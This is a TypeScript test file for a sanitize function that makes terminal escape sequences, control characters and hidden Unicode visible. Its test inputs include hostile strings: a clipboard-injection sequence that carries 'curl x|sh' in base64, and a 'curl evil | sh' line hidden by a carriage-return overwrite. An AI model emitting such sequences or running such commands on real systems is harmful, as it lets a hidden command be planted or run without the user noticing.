import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitize, sanitizeLine } from '../../src/shared/text/sanitize.ts';

describe('sanitize', () => {
  it('keeps ordinary text, CJK, emoji, newlines and tabs as they are', () => {
    const text = '北京 12°C\n\t👍🏽 café\u0301';
    assert.equal(sanitize(text), text);
  });

  it('turns every escape sequence inert: OSC 52 clipboard, OSC 0 title, clear screen', () => {
    const hostile = '\u001b]52;c;Y3VybCB4fHNo\u0007hi\u001b]0;pwned\u001b\\\u001b[2J\u001b[H';
    const shown = sanitize(hostile);
    assert.equal(shown.includes('\u001b'), false);
    assert.equal(shown.includes('\u0007'), false);
    assert.equal(shown, '␛]52;c;Y3VybCB4fHNo␇hi␛]0;pwned␛\\␛[2J␛[H');
  });

  it('shows a carriage return, so a line cannot be overwritten by what follows it', () => {
    assert.equal(sanitize('curl evil | sh\r\u001b[2Kecho safe'), 'curl evil | sh␍␛[2Kecho safe');
  });

  it('shows C1 controls, DEL and bidi overrides visibly', () => {
    assert.equal(sanitize('a\u009b2Jb\u007fc\u202eabc'), 'a<U+009B>2Jb␡c<U+202E>abc');
  });

  it('shows invisible text-hiding characters: a mid-text byte-order mark and Unicode tag characters', () => {
    assert.equal(sanitize('ok\ufeff\u{e0041}\u{e0042}!'), 'ok<U+FEFF><U+E0041><U+E0042>!');
  });

  it('keeps a Windows line end as a line break, but a lone carriage return stays visible', () => {
    assert.equal(sanitize('one\r\ntwo\rthree'), 'one\ntwo␍three');
    assert.equal(sanitizeLine('one\r\ntwo'), 'one␍␊two');
  });

  it('sanitizeLine also shows newlines and tabs', () => {
    assert.equal(sanitizeLine('a\nb\tc'), 'a␊b␉c');
  });
});
